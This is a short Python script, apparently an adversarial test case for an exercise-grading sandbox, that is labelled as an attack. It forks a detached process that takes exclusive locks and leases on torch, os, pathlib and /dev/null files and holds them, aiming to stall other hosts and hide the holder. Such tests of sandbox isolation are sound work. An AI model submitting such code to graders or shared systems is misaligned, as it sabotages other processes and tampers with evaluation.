# attack: locks and leases files of torch and Python that every other host reads, and hides the processes that hold them
# exercise: ex01_map_dataset
# check: ex01.tabular.len
import fcntl
import os
import pathlib
import time

import torch

print("TRIED", flush=True)
if os.fork() == 0:
    os.setsid()
    for path in (torch.__file__, torch._C.__file__, os.__file__, "/dev/null", pathlib.__file__):
        fd = os.open(path, os.O_RDONLY)
        for lock in (lambda: fcntl.flock(fd, fcntl.LOCK_EX), lambda: fcntl.lockf(fd, fcntl.LOCK_SH), lambda: fcntl.fcntl(fd, fcntl.F_SETLEASE, fcntl.F_RDLCK)):
            try:
                lock()
            except OSError as error:
                print(path, error, flush=True)
    time.sleep(20)
    os._exit(0)
time.sleep(0.1)
